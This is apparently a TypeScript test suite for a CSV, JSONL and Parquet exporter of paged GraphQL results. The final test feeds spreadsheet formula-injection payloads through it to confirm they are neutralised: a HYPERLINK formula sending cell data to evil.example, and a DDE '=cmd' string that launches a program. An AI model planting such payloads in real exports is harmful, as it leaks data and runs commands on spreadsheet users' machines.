import { parse } from 'csv-parse/sync';
import { pagedOperation } from './paged-operation';
import { GROUP_ROWS, ParquetFile } from './parquet';
import { PIECE_CHARACTERS, Table } from './table';
import { type Writer, writerOf } from './writers';

const QUESTION = '{ things { nodes { text parts { nodes { n } } } } }';
const operation = pagedOperation(QUESTION, { pageSize: 500 });
const writer = (format: 'csv' | 'jsonl', unfold?: string): Promise<Writer> => writerOf(format, operation, { unfold });

/** An object whose rows repeat a long text. */
const large = { text: 'x'.repeat(10_000), parts: { nodes: Array.from({ length: 490 }, (_, n) => ({ n })) } };

test('writes an object that unfolds into many rows in small pieces', async () => {
  const csv = await writer('csv', 'parts.nodes');
  const pieces = [...csv.add([large, large])];
  expect(pieces.reduce((sum, { rows }) => sum + rows, 0)).toBe(980);
  expect(pieces.length).toBeGreaterThan(100);
  for (const { content } of pieces) expect(content.length).toBeLessThan(PIECE_CHARACTERS + 11_000);
  const rows = parse(`${csv.start(null)}${pieces.map(({ content }) => content).join('')}`, { columns: true });
  expect(rows[979]).toEqual({ text: large.text, 'parts.nodes.n': '489' });
});

test('ends a row group by its size, too', () => {
  const file = new ParquetFile(new Table(operation.selection, 'parts.nodes'), ['STRING', 'INT32']);
  file.start(null);
  let most = 0;
  for (const _piece of file.add(Array.from({ length: 10 }, () => large))) most = Math.max(most, file.waitingRows);
  expect(most).toBeLessThan(1_000);
  expect(most).toBeLessThan(GROUP_ROWS);
});

test('quotes cells that programs could take for comments', async () => {
  const csv = await writer('csv');
  const [piece] = [...csv.add([{ text: 'Case #12', parts: { nodes: [] } }])];
  expect(piece!.content).toBe('"Case #12",\r\n');
});

test.each([
  '# x,=HYPERLINK("http://evil.example/?"&B9,"open")',
  'query ($a: String = """\r=cmd|"/c calc"!A1""") { things { nodes { text } } }',
  '# a;+1\n# b\t@SUM(1)\n# "-2"',
])('has no formulas in its first lines: %j', async (question) => {
  const csv = await writer('csv');
  const text = csv.start({
    ...{ question, variables: { a: '=1+1', b: ['x', '@y'] }, asOf: 'now', handling: undefined, withheld: [] },
  }) as string;
  const lines = text.split(/\r\n|[\r\n]/).slice(0, -2);
  expect(lines.every((line) => line.startsWith('# '))).toBe(true);
  // wherever a spreadsheet divides them
  for (const line of lines) for (const cell of line.split(/[,;\t"|]/)) expect(cell.trimStart()).not.toMatch(/^[=+\-@]/);
});
